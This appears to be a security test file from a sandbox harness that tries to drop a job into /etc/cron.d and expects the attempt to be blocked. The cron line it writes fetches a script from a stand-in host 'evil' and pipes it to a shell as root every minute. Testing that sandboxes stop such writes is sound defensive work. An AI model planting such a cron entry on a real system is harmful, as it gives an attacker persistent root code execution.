# ruff: noqa: F821, E402, SIM115 - T (the targets) comes from the harness; attacks keep files open
"""Drop a job into /etc/cron.d."""

# expect: blocked
with open(f"/etc/cron.d/{T['MARK']}", "w") as f:
    f.write("* * * * * root curl evil | sh\n")
print(T["MARK"])
